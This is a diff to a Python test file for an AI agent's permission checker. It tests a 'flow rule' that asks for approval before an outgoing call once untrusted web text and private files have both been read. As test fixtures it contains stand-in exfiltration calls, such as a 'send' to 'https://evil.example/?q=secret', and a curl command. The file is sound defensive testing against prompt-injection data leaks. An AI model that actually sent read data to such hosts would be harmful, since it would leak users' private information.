@@ -1,4 +1,4 @@
-"""Approval of calls because of the labels of a conversation."""
+"""Tests for the flow rule, which requires approval because of the labels of a conversation."""
 
 import time
 
@@ -13,7 +13,7 @@ LEAVES = Decision(Verdict.ALLOW, "url.public", "It is a public address.", egress
 
 
 def conversation(*labels, said="Read it and tell me."):
-    """A prompt and one tool call with its result for each label."""
+    """Return a prompt and one tool call with its result for each label."""
     messages = [UserMessage(said)]
     for index, label in enumerate(labels):
         name = {Label.UNTRUSTED: "fetch_url", Label.PRIVATE: "read_file"}[label]
@@ -25,16 +25,16 @@ def conversation(*labels, said="Read it and tell me."):
 BOTH = (Label.UNTRUSTED, Label.PRIVATE)
 
 
-def test_both_labels_make_egress_an_ask():
-    """Once untrusted text and private data were read, a call that could carry data out names the two causes."""
+def test_both_labels_require_approval_of_egress():
+    """After untrusted text and private data were read, an outgoing call needs approval and names both sources."""
     decision = judge_flow(conversation(*BOTH), "send", {"url": "https://evil.example/?q=secret"}, LEAVES)
     assert (decision.verdict, decision.rule) == (Verdict.ASK, "flow")
     assert 'fetch_url({"n": 0})' in decision.reason
     assert 'read_file({"n": 1})' in decision.reason
 
 
-def test_order_of_reading_does_not_matter():
-    """Private data first and untrusted text after it is the same danger."""
+def test_order_of_reading_is_irrelevant():
+    """Reading private data before untrusted text has the same effect."""
     assert judge_flow(conversation(*reversed(BOTH)), "send", {"url": "https://evil.example/"}, LEAVES).rule == "flow"
 
 
@@ -44,19 +44,19 @@ def test_single_label_does_not_change_decision(labels):
     assert judge_flow(conversation(*labels), "send", {"url": "https://a.example/"}, LEAVES) is LEAVES
 
 
-def test_calls_that_stay_inside_need_no_approval():
-    """A call that cannot carry data out runs as before."""
+def test_calls_without_egress_need_no_approval():
+    """A call without egress needs no approval."""
     inside = Decision(Verdict.ALLOW, "workspace.read", "It is in the workspace.")
     assert judge_flow(conversation(*BOTH), "send", {"path": "a.txt"}, inside) is inside
 
 
-def test_denial_stays_a_denial():
+def test_flow_rule_does_not_override_a_denial():
     """The flow rule does not turn a denial into a question."""
     denied = Decision(Verdict.DENY, "url.private-address", "It is private.", egress=True)
     assert judge_flow(conversation(*BOTH), "send", {"url": "http://10.0.0.1/"}, denied) is denied
 
 
-def test_question_keeps_its_own_reason_too():
+def test_question_has_both_reasons():
     """A call that needs approval anyway states both reasons."""
     asked = Decision(Verdict.ASK, "shell.network", "It needs the network.", egress=True)
     decision = judge_flow(conversation(*BOTH), "send", {"command": "curl https://a.example"}, asked)
@@ -83,22 +83,22 @@ def test_question_keeps_its_own_reason_too():
         ({}, True),
     ],
 )
-def test_words_of_the_person_may_leave(arguments, asked):
-    """A call whose arguments the person wrote carries nothing that was read; one invented piece makes it a question."""
+def test_user_text_may_be_sent(arguments, asked):
+    """A call whose arguments are the user's own text needs no approval; one invented argument needs it."""
     messages = conversation(*BOTH, said="Send https://a.example/page to bob 3 times")
     assert (judge_flow(messages, "send", arguments, LEAVES).rule == "flow") is asked
 
 
-def test_host_alone_is_not_the_address():
-    """That the person named a host does not make an address there, with words of the model in it, the person's own."""
+def test_host_named_by_the_user_does_not_allow_its_urls():
+    """A host named by the user does not allow a URL there that contains text of the model."""
     decision = Decision(Verdict.ALLOW, "url.public", "Public.", evidence="a.example", egress=True)
     messages = [UserMessage(("See https://a.example/", Image("https://a.example/x.png"))), *conversation(*BOTH)]
     assert judge_flow(messages, "send", {"url": "https://a.example/", "start": 0}, decision) is decision
     assert judge_flow(messages, "send", {"url": "https://a.example/?q=secret", "start": 0}, decision).rule == "flow"
 
 
-def test_result_without_its_call_is_named_all_the_same():
-    """A history that lost the call still knows which tool it was."""
+def test_result_without_its_call_has_its_tool():
+    """A result without its call in the history is still attributed to its tool."""
     messages = [ToolMessage("x", "mail", "…", frozenset(BOTH))]
     assert "mail()" in judge_flow(messages, "send", {"url": "https://evil.example/"}, LEAVES).reason
 
@@ -230,7 +230,7 @@ def test_part_of_a_word_does_not_count(value, words):
         ("👍", "React with 👍 to it."),
     ],
 )
-def test_a_whole_word_counts(value, words):
+def test_punctuation_next_to_a_word_is_ignored(value, words):
     """Quotes, punctuation and units next to a word do not change it."""
     assert said_in([UserMessage(words)], {"x": value})
 
@@ -249,8 +249,8 @@ def test_parallel_calls_count_towards_the_limit():
         assert (judge_flow(messages, "send", {"to": "bob"}, LEAVES).rule == "flow") is (count > 5)
 
 
-def test_long_text_of_parts_of_words_does_not_count():
-    """A pasted text in which a letter always bears an accent is not read to its end for each of many arguments."""
+def test_long_text_is_not_scanned_for_each_argument():
+    """A long pasted text of partial matches is not scanned again for each of many arguments."""
     pasted = "e\u0301 " * 300_000
     started = time.process_time()
     found = said_in([UserMessage(pasted)], {f"a{number}": "e" for number in range(100)})
